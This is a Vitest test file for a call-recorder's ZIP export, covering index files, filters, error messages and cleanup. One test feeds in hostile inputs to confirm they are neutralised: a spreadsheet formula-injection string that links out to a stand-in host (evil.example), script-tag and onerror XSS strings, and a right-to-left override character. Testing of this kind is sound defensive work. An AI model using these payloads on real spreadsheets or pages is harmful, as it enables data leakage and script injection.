import { rmSync, truncateSync, writeFileSync } from 'node:fs';
import { mkdir, readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { exportFileName, exportRecordings, type ExportOptions } from '../../main/recorder/export/export-zip.ts';
import { ExportFailure } from '../../main/recorder/export/export-failure.ts';
import { sidecarPath } from '../../main/recorder/library.ts';
import { FakeClock } from '../helpers/fake-clock.ts';
import { saveRecording } from '../helpers/library.ts';
import { fileSha256, tempDir } from '../helpers/recorder.ts';
import { testZip, unzippedHashes, unzippedText, zipEntries } from '../helpers/unzip.ts';

/** An ISO start time at a moment of a day on this computer's clock, as the recorder writes it into a sidecar. */
const at = (day: string, hour: number, minute = 0) => {
  const [y = 0, m = 1, d = 1] = day.split('-').map(Number);
  return new Date(y, m - 1, d, hour, minute).toISOString();
};

/** Reads RFC 4180 text back into rows of cells (quoted fields, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text.charAt(i);
    const next = text.charAt(i + 1);
    if (quoted && c === '"' && next === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && c === '\r' && next === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}

async function library() {
  const folder = await tempDir('recordings-');
  const out = await tempDir('export-');
  return { folder, out };
}

function options(folder: string, target: string, extra: Partial<ExportOptions> = {}): ExportOptions {
  return { folder, target, selection: { kind: 'filter' }, clock: new FakeClock(), ...extra };
}

describe('export', () => {
  it('writes one ZIP whose recordings and descriptions are byte for byte those of the folder, audio stored as it is', async () => {
    const { folder, out } = await library();
    const paths = [
      await saveRecording(folder, '2026-11-20/09-00-00_1000_1001.wav', { startTime: at('2026-11-20', 9) }),
      await saveRecording(folder, '2026-11-20/10-30-00_+36 1 234 5678_1001.mp3', { startTime: at('2026-11-20', 10, 30), format: 'mp3', durationSeconds: 3 }),
      await saveRecording(folder, 'Kovács Zoltán (2).wav', { startTime: at('2026-11-21', 8), callerName: 'Kovács Zoltán' }),
    ];
    const target = join(out, 'calls.zip');
    const progress: number[] = [];
    const result = await exportRecordings(options(folder, target, { onProgress: (p) => progress.push(p.doneBytes) }));

    expect(result).toEqual({ file: target, count: 3, bytes: (await stat(target)).size });
    expect(await testZip(target)).toContain('No errors detected');
    const entries = await zipEntries(target);
    expect(entries.map((e) => e.name)).toEqual([
      'index.html',
      'index.csv',
      'recordings/2026-11-20/09-00-00_1000_1001.wav',
      'recordings/2026-11-20/09-00-00_1000_1001.json',
      'recordings/2026-11-20/10-30-00_+36 1 234 5678_1001.mp3',
      'recordings/2026-11-20/10-30-00_+36 1 234 5678_1001.json',
      'recordings/Kovács Zoltán (2).wav',
      'recordings/Kovács Zoltán (2).json',
    ]);
    expect(entries.every((e) => e.method === 'stor')).toBe(true);

    const hashes = await unzippedHashes(target);
    for (const path of paths) {
      const inside = `recordings/${path.slice(folder.length + 1)}`;
      expect(hashes.get(inside)).toBe(await fileSha256(path));
      expect(hashes.get(inside.replace(/\.\w+$/, '.json'))).toBe(await fileSha256(sidecarPath(path)));
    }
    expect(progress.at(-1)).toBe(result.bytes);
    expect(progress).toEqual([...progress].sort((a, b) => a - b));
    expect(await readdir(out)).toEqual(['calls.zip']); // no temporary file left beside it
  });

  it('lists the calls in index.csv and index.html with hostile text made harmless', async () => {
    const { folder, out } = await library();
    const hostileName = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const hostileNote = 'Call back <script>alert(1)</script>, "urgent"\nsecond line';
    await saveRecording(folder, 'a.wav', {
      startTime: at('2026-11-20', 9, 5),
      from: '+36 1 234 5678',
      to: '1001',
      callerName: hostileName,
      note: hostileNote,
      pinned: true,
      durationSeconds: 75,
      announcement: {
        how: 'text',
        what: 'This call is recorded.',
        party: 'caller',
        order: 'announce-first',
        outcome: 'failed',
        problem: 'The PBX refused Speak.',
      },
      desk: { name: '=Front desk', machine: 'reception-1', user: 'anna' },
    });
    await saveRecording(folder, 'b"<img src=x onerror=alert(2)>.wav', {
      startTime: at('2026-11-20', 11),
      from: '@SUM(1+1)',
      to: '-2+3',
      callerName: 'Anna\u202eevil',
    });
    const target = join(out, 'calls.zip');
    await exportRecordings(options(folder, target));

    const csv = await unzippedText(target, 'index.csv');
    expect(csv.startsWith('\ufeff')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(csv.slice(1));
    expect(rows[0]).toEqual([
      'Date',
      'Time',
      'Seconds',
      'From',
      'To',
      'Caller name',
      'Note',
      'Pinned',
      'Announcement',
      'Desk',
      'Audio file',
      'Description file',
      'Call ID',
    ]);
    expect(rows[1]).toEqual([
      '2026-11-20',
      '09:05:00',
      '75',
      "'+36 1 234 5678",
      '1001',
      `'${hostileName}`,
      hostileNote,
      'yes',
      'failed: The PBX refused Speak.',
      "'=Front desk",
      'recordings/a.wav',
      'recordings/a.json',
      'c1',
    ]);
    expect(rows[2]?.slice(3, 6)).toEqual(["'@SUM(1+1)", "'-2+3", 'Anna\u202eevil']);
    expect(rows[2]?.slice(8, 10)).toEqual(['', '']); // announcements were off; saved before desks were named
    expect(rows[2]?.[10]).toBe('recordings/b"<img src=x onerror=alert(2)>.wav');
    expect(rows).toHaveLength(3);

    const html = await unzippedText(target, 'index.html');
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    expect(html).toContain('Call back &#60;script&#62;alert(1)&#60;/script&#62;, &#34;urgent&#34;\nsecond line');
    expect(html).toContain('=HYPERLINK(&#34;http://evil.example/?&#34;&#38;A1,&#34;Click&#34;)');
    expect(html).toContain('<bdi>Anna\u202eevil</bdi>'); // isolated: the override cannot turn the rest of the row around
    // Self-contained: nothing is fetched from anywhere, and every link is a relative one to a file of the ZIP.
    expect(html).not.toMatch(/\ssrc=|<link|<script|url\(|@import/i);
    const links = [...html.matchAll(/href="([^"]*)"/g)].map(([, href = '']) => href);
    expect(links).toEqual([
      'recordings/a.wav',
      'recordings/a.json',
      'recordings/b%22%3Cimg%20src%3Dx%20onerror%3Dalert(2)%3E.wav',
      'recordings/b%22%3Cimg%20src%3Dx%20onerror%3Dalert(2)%3E.json',
    ]);
    expect(html).toContain("content=\"default-src 'none'; style-src 'unsafe-inline'\"");
  });

  it('exports a range of days on this computer’s clock, and one number whatever its spaces, dashes and brackets', async () => {
    const { folder, out } = await library();
    await saveRecording(folder, 'before.wav', { startTime: at('2026-11-19', 23, 59), from: '+3612345678' });
    await saveRecording(folder, 'first.wav', { startTime: at('2026-11-20', 0, 0), from: '+3612345678' });
    await saveRecording(folder, 'other.wav', { startTime: at('2026-11-20', 12), from: '1000', to: '1002' });
    await saveRecording(folder, 'callee.wav', { startTime: at('2026-11-21', 23, 59), from: '1000', to: '+36-1-234-5678' });
    await saveRecording(folder, 'after.wav', { startTime: at('2026-11-22', 0, 0), from: '+3612345678' });
    const names = async (selection: ExportOptions['selection'], file: string) => {
      await exportRecordings(options(folder, join(out, file), { selection }));
      return (await zipEntries(join(out, file))).map((e) => e.name).filter((n) => n.endsWith('.wav'));
    };
    expect(await names({ kind: 'filter', from: '2026-11-20', to: '2026-11-21' }, 'range.zip')).toEqual([
      'recordings/first.wav',
      'recordings/other.wav',
      'recordings/callee.wav',
    ]);
    expect(await names({ kind: 'filter', from: '2026-11-20', to: '2026-11-21', number: '+36 (1) 234 5678' }, 'number.zip')).toEqual([
      'recordings/first.wav',
      'recordings/callee.wav',
    ]);
    expect(await names({ kind: 'filter', number: '+36 1 234-5678' }, 'all-of-number.zip')).toEqual([
      'recordings/before.wav',
      'recordings/first.wav',
      'recordings/callee.wav',
      'recordings/after.wav',
    ]);
    expect(await names({ kind: 'recordings', relativePaths: ['other.wav', 'before.wav', 'other.wav'] }, 'chosen.zip')).toEqual([
      'recordings/before.wav',
      'recordings/other.wav',
    ]);
  });

  it.each([
    [{ kind: 'filter', from: '20.11.2026' }, '"20.11.2026" is not a date; write it as YYYY-MM-DD, for example 2026-11-20.'],
    [{ kind: 'filter', to: '2026-02-30' }, '2026-02-30 is not a day of the calendar.'],
    [{ kind: 'filter', from: '2026-11-21', to: '2026-11-20' }, 'The range ends (2026-11-20) before it starts (2026-11-21).'],
    [{ kind: 'filter', from: '2026-12-01' }, 'No recording matches: there is nothing to export.'],
    [{ kind: 'filter', number: ' - ' }, 'The number is empty; give the number whose calls to export, for example +36 1 234 5678.'],
    [{ kind: 'recordings', relativePaths: ['gone.wav'] }, 'The recording gone.wav is no longer in the folder. Choose the recordings again.'],
  ] as const)('refuses the selection %j in words, writing nothing', async (selection, message) => {
    const { folder, out } = await library();
    await saveRecording(folder, 'a.wav', { startTime: at('2026-11-20', 9) });
    await expect(exportRecordings(options(folder, join(out, 'x.zip'), { selection: { ...selection } }))).rejects.toMatchObject({ kind: 'selection', message });
    expect(await readdir(out)).toEqual([]);
  });

  it('leaves no file behind when a recording vanishes while the ZIP is being written', async () => {
    const { folder, out } = await library();
    // Five minutes of WAV (4.8 MB): the export is still reading it when the first bytes of the ZIP are written.
    await saveRecording(folder, 'a.wav', { startTime: at('2026-11-20', 9), durationSeconds: 300 });
    const last = await saveRecording(folder, 'b.wav', { startTime: at('2026-11-20', 10), durationSeconds: 30 });
    let removed = false;
    const onProgress = () => {
      if (removed) return;
      removed = true;
      rmSync(last); // before the export reaches it: it was listed, and is gone when it is read
    };
    const failure = await exportRecordings(options(folder, join(out, 'calls.zip'), { onProgress })).catch((e: unknown) => e);
    expect(failure).toBeInstanceOf(ExportFailure);
    expect(failure).toMatchObject({ kind: 'source', message: expect.stringMatching(/^Could not read recordings\/b\.wav: ENOENT/) as unknown });
    expect(await readdir(out)).toEqual([]);
  });

  it('leaves no file behind when a recording shrinks while it is being exported', async () => {
    const { folder, out } = await library();
    await saveRecording(folder, 'a.wav', { startTime: at('2026-11-20', 9), durationSeconds: 300 });
    const last = await saveRecording(folder, 'b.wav', { startTime: at('2026-11-20', 10), durationSeconds: 30 });
    let cut = false;
    const onProgress = () => {
      if (cut) return;
      cut = true;
      truncateSync(last, 1000); // after it was listed with its size, before it is read
    };
    await expect(exportRecordings(options(folder, join(out, 'calls.zip'), { onProgress }))).rejects.toMatchObject({
      kind: 'source',
      message: 'A recording changed while it was being exported (file data stream has unexpected number of bytes). Try again.',
    });
    expect(await readdir(out)).toEqual([]);
  });

  it('stops when asked and removes what it had written', async () => {
    const { folder, out } = await library();
    await saveRecording(folder, 'a.wav', { startTime: at('2026-11-20', 9), durationSeconds: 60 });
    await saveRecording(folder, 'b.wav', { startTime: at('2026-11-20', 10), durationSeconds: 60 });
    const stop = new AbortController();
    await expect(exportRecordings(options(folder, join(out, 'calls.zip'), { signal: stop.signal, onProgress: () => stop.abort() }))).rejects.toMatchObject({
      message: 'The export was stopped; nothing was written.',
    });
    expect(await readdir(out)).toEqual([]);
  });

  it('says when the chosen place is missing, full or taken, and writes nothing', async () => {
    const { folder, out } = await library();
    await saveRecording(folder, 'a.wav', { startTime: at('2026-11-20', 9), durationSeconds: 10 });
    const missing = join(out, 'no-such-folder');
    await expect(exportRecordings(options(folder, join(missing, 'calls.zip')))).rejects.toMatchObject({
      kind: 'target',
      message: `The folder ${missing} does not exist. Choose another place for the export.`,
    });

    const full = exportRecordings(options(folder, join(out, 'calls.zip'), { freeBytes: () => Promise.resolve(100_000) }));
    await expect(full).rejects.toMatchObject({
      kind: 'target',
      message: expect.stringMatching(new RegExp(`^The disk of ${out} is full: the export needs 2\\d\\d KB and 100 KB is free\\.`)) as unknown,
    });
    expect(await readdir(out)).toEqual([]);

    await writeFile(join(out, 'calls.zip'), 'kept');
    await expect(exportRecordings(options(folder, join(out, 'calls.zip')))).rejects.toMatchObject({
      kind: 'target',
      message: `${join(out, 'calls.zip')} already exists. Choose another name, or delete that file first.`,
    });
    expect(await readFile(join(out, 'calls.zip'), 'utf8')).toBe('kept');
    await exportRecordings(options(folder, join(out, 'calls.zip'), { overwrite: true })); // a save dialog asked first
    expect((await zipEntries(join(out, 'calls.zip'))).map((e) => e.name)).toContain('recordings/a.wav');
    expect(await readdir(out)).toEqual(['calls.zip']);
  });

  it('never replaces a file that takes the name while the ZIP is being written', async () => {
    const { folder, out } = await library();
    await saveRecording(folder, 'a.wav', { startTime: at('2026-11-20', 9), durationSeconds: 10 });
    const target = join(out, 'calls.zip');
    let made = false;
    const onProgress = () => {
      if (made) return;
      made = true;
      writeFileSync(target, 'saved by someone else'); // after the name was found free, before the ZIP is complete
    };
    const failure = await exportRecordings(options(folder, target, { onProgress })).catch((e: unknown) => e);
    expect(failure).toMatchObject({ kind: 'target', message: `${target} already exists. Choose another name, or delete that file first.` });
    expect(await readFile(target, 'utf8')).toBe('saved by someone else');
    expect(await readdir(out)).toEqual(['calls.zip']);
  });

  it('says when the recordings folder is missing', async () => {
    const { out } = await library();
    const folder = join(out, 'unplugged');
    await expect(exportRecordings(options(folder, join(out, 'calls.zip')))).rejects.toMatchObject({
      kind: 'source',
      message: `The recordings folder ${folder} is missing or cannot be read. Plug in its drive, or choose it again.`,
    });
  });

  it('refuses a recording that is a link out of the recordings folder', async () => {
    const { folder, out } = await library();
    const outside = await tempDir('outside-');
    await saveRecording(outside, 'secret.wav');
    await mkdir(join(folder, 'in'));
    await symlink(join(outside, 'secret.wav'), join(folder, 'in', 'secret.wav'));
    await writeFile(join(folder, 'in', 'secret.json'), await readFile(join(outside, 'secret.json')));
    await expect(exportRecordings(options(folder, join(out, 'calls.zip')))).rejects.toMatchObject({
      kind: 'source',
      message: 'The recording in/secret.wav is not a file inside the recordings folder; it cannot be exported.',
    });
    expect(await readdir(out)).toEqual([]);
  });

  it('proposes a file name from the selection', () => {
    const now = new Date(2026, 10, 27, 12);
    expect(exportFileName({ kind: 'recordings', relativePaths: ['a.wav'] }, now)).toBe('calls-2026-11-27.zip');
    expect(exportFileName({ kind: 'filter', from: '2026-11-01', to: '2026-11-30' }, now)).toBe('calls-2026-11-01-to-2026-11-30.zip');
    expect(exportFileName({ kind: 'filter', from: '2026-11-20', to: '2026-11-20' }, now)).toBe('calls-2026-11-20.zip');
    expect(exportFileName({ kind: 'filter', from: '2026-11-20' }, now)).toBe('calls-2026-11-20-to-2026-11-27.zip');
  });
});
